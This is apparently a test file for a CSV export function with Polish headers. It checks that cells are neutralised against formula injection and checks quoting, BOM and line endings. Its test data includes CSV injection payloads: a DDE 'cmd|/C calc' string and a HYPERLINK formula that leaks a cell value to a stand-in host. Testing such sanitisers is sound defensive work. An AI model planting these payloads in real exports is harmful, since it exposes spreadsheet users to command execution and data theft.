import { parse } from 'csv-parse/sync';
import { neutraliseCsvCell, toCsv, type CsvColumn } from './csv.js';

const columns: CsvColumn[] = [{ header: 'Wnioskodawca' }, { header: 'Kwota (zł)', kind: 'number' }];
const rowsOf = (csv: string): string[][] => parse(csv, { bom: true });

describe('toCsv', () => {
  it.each(['=1+1', '+48 600', '-2+3+cmd|/C calc!A0', '@SUM(A1:A2)', '\tx', '\rx'])(
    'neutralises a text cell starting with a formula character: %j',
    (value) => {
      expect(rowsOf(toCsv(columns, [[value, 1]]))[1]![0]).toBe(`'${value}`);
    },
  );

  it('neutralises the full-width forms too', () => {
    expect(neutraliseCsvCell('\uFF1D1+1')).toBe("'\uFF1D1+1");
  });

  it('turns a HYPERLINK formula into text', () => {
    const name = '=HYPERLINK("http://x?leak="&A1,"Kliknij")';
    const csv = toCsv(columns, [[name, '10.00']]);
    expect(csv).toContain(`"'=HYPERLINK(""http://x?leak=""&A1,""Kliknij"")"`);
    expect(rowsOf(csv)[1]).toEqual([`'${name}`, '10.00']);
  });

  it('quotes quotes, semicolons, commas and line breaks, and keeps Polish letters', () => {
    const value = 'Spółdzielnia "Żółw"; Łódź,\r\nul. Ćmielowska';
    const csv = toCsv(columns, [[value, 0]]);
    expect(csv).toContain('"Spółdzielnia ""Żółw""; Łódź,\r\nul. Ćmielowska"');
    expect(rowsOf(csv)).toEqual([
      ['Wnioskodawca', 'Kwota (zł)'],
      [value, '0'],
    ]);
  });

  it('starts with a UTF-8 BOM, ends lines with CRLF and heads the columns in Polish', () => {
    const csv = toCsv(columns, [
      ['Gęś', 1],
      [null, undefined],
    ]);
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv).toBe('\uFEFFWnioskodawca,Kwota (zł)\r\nGęś,1\r\n,\r\n');
  });

  it('leaves numbers in number columns as they are, negative ones included', () => {
    const csv = toCsv(columns, [
      ['a', -12.5],
      ['b', '-12.50'],
      ['c', '-1234,50'],
      ['d', '-73\u00a0390,00\u00a0zł'],
      ['e', 42],
    ]);
    expect(
      rowsOf(csv)
        .slice(1)
        .map((r) => r[1]),
    ).toEqual(['-12.5', '-12.50', '-1234,50', '-73\u00a0390,00\u00a0zł', '42']);
  });

  it('still neutralises a formula that reached a number column, and a number in a text column', () => {
    expect(neutraliseCsvCell('-1+cmd|x', 'number')).toBe("'-1+cmd|x");
    expect(neutraliseCsvCell('=1', 'number')).toBe("'=1");
    expect(neutraliseCsvCell('-12', 'text')).toBe("'-12");
    expect(neutraliseCsvCell('12-3', 'text')).toBe('12-3');
  });

  it('refuses a row with the wrong number of cells', () => {
    expect(() => toCsv(columns, [['a']])).toThrow(RangeError);
  });
});
